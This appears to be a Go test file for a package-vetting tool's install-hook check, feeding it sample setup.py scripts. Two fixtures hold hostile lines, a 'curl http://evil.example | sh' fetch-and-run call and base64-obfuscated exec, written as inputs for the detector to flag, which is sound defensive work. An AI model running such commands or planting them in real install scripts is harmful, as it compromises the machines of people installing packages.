/*
Copyright 2026 The pkgvet Authors
SPDX-License-Identifier: Apache-2.0
*/

package checks

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/pkgvet/pkgvet/pkg/vet"
)

func installHooksResult(t *testing.T, sourceDir string) vet.CheckResult {
	t.Helper()

	result, err := InstallHooksCheck{SourceDir: sourceDir}.Analyze(context.Background(), &vet.PackageMetadata{
		Identity: vet.PackageIdentity{Ecosystem: "pypi", Name: "somepkg"},
	})
	require.NoError(t, err)
	return result
}

func writeSetupPy(t *testing.T, content string) string {
	t.Helper()

	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "setup.py"), []byte(content), 0o600))
	return dir
}

func TestInstallHooksNoSourceDegrades(t *testing.T) {
	result := installHooksResult(t, "")

	assert.Zero(t, result.Confidence)
	assert.Zero(t, result.RiskScore)
	require.Len(t, result.Findings, 1)
	assert.Equal(t, "install_hooks_no_source", result.Findings[0].ID)
}

func TestInstallHooksCleanSetupScript(t *testing.T) {
	dir := writeSetupPy(t, `from setuptools import setup

setup(name="somepkg", version="1.0.0")
`)

	result := installHooksResult(t, dir)

	assert.Zero(t, result.RiskScore)
	assert.Empty(t, result.Findings)
	assert.Equal(t, 1, result.Diagnostics["files_scanned"])
}

func TestInstallHooksDangerousCalls(t *testing.T) {
	dir := writeSetupPy(t, `from setuptools import setup
import os

os.system("curl http://evil.example | sh")
exec(compile("payload", "<s>", "exec"))

setup(name="somepkg")
`)

	result := installHooksResult(t, dir)

	ids := findingIDs(result)
	assert.Contains(t, ids, "install_hook_os_system")
	assert.Contains(t, ids, "install_hook_exec")
	assert.Greater(t, result.RiskScore, 0.0)
}

func TestInstallHooksDangerousImports(t *testing.T) {
	dir := writeSetupPy(t, `import socket
from subprocess import run
from setuptools import setup

setup(name="somepkg")
`)

	result := installHooksResult(t, dir)

	ids := findingIDs(result)
	assert.Contains(t, ids, "install_hook_import_socket")
	assert.Contains(t, ids, "install_hook_import_subprocess")
}

func TestInstallHooksObfuscationPatterns(t *testing.T) {
	dir := writeSetupPy(t, `import base64
exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
`)

	result := installHooksResult(t, dir)

	ids := findingIDs(result)
	assert.Contains(t, ids, "install_hook_base64")
	assert.Contains(t, ids, "install_hook_exec")
}

func TestInstallHooksFindingsIncludeLineNumbers(t *testing.T) {
	dir := writeSetupPy(t, `from setuptools import setup

eval("1+1")
`)

	result := installHooksResult(t, dir)

	require.Len(t, result.Findings, 1)
	assert.Contains(t, result.Findings[0].Description, "line 3")
}

func TestInstallHooksScansMultipleScripts(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "setup.py"), []byte("from setuptools import setup\n"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "pyproject.toml"), []byte("[build-system]\n"), 0o600))

	result := installHooksResult(t, dir)

	assert.Equal(t, 2, result.Diagnostics["files_scanned"])
}

func TestInstallHooksDedupesRepeatedPatterns(t *testing.T) {
	dir := writeSetupPy(t, `eval("a")
eval("b")
eval("c")
`)

	result := installHooksResult(t, dir)

	assert.Len(t, result.Findings, 1)
}
